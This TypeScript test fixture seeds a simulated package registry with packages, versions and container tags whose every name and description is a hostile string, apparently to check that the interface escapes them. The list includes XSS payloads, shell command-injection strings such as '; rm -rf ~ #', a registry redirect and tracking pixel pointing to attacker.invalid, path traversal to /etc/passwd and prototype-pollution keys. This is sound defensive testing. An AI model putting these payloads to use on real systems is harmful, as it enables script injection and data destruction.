import { days } from '../clock.ts';
import { addPackage, addRepository, addVersion, type World } from '../world.ts';
import { imageOf } from './manifests.ts';
import { addImage } from './history.ts';

/** Texts that break out of HTML, Markdown, shells and layouts where they are not escaped. */
export const hostileTexts = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.domain)</script>',
  "';alert(1)//",
  '$(touch pwned)',
  '`touch pwned`',
  '; rm -rf ~ #',
  '--registry=http://attacker.invalid',
  '[x](command:workbench.action.quit)',
  '![x](https://attacker.invalid/pixel.png)',
  '$(flame) $(error)',
  '\u202Egnp.exe\u202C',
  'a\u200Bb\uFEFFc',
  'line\nbreak\ttab',
  '../../../etc/passwd',
  '%2e%2e%2f100%25',
  'name?query=1&other=2#fragment',
  '日本語-パッケージ-🐙',
  '__proto__',
  'constructor',
  'x'.repeat(250),
] as const;

/** An organization whose every text is an attack; kept apart, so that the others look as people expect. */
export function addHostileNames(world: World): void {
  const owner = 'hostile-names';
  const now = world.clock.now();
  hostileTexts.forEach((text, index) => {
    const added = addPackage(world, owner, 'npm', text, {
      repository: addRepository(world, `repository-${String(index)}`, { description: text }),
    });
    addVersion(world, added, '1.0.0', { createdAt: now - days(40 + index), license: text, description: text });
    addVersion(world, added, `2.0.0-${text}`, { createdAt: now - days(10 + index), license: text, description: text });
    added.updatedAt = now - days(10 + index);
  });
  const container = addPackage(world, owner, 'container', 'hostile/tags');
  hostileTexts.forEach((text, index) => {
    addImage(world, container, imageOf(`hostile ${text}`, 5), [text, `tag-${String(index)}`], now - days(30 - index));
  });
  addImage(
    world,
    container,
    imageOf('fifty tags', 5),
    Array.from({ length: 50 }, (_, index) => `many-${String(index)}`),
    now - days(2),
  );
}
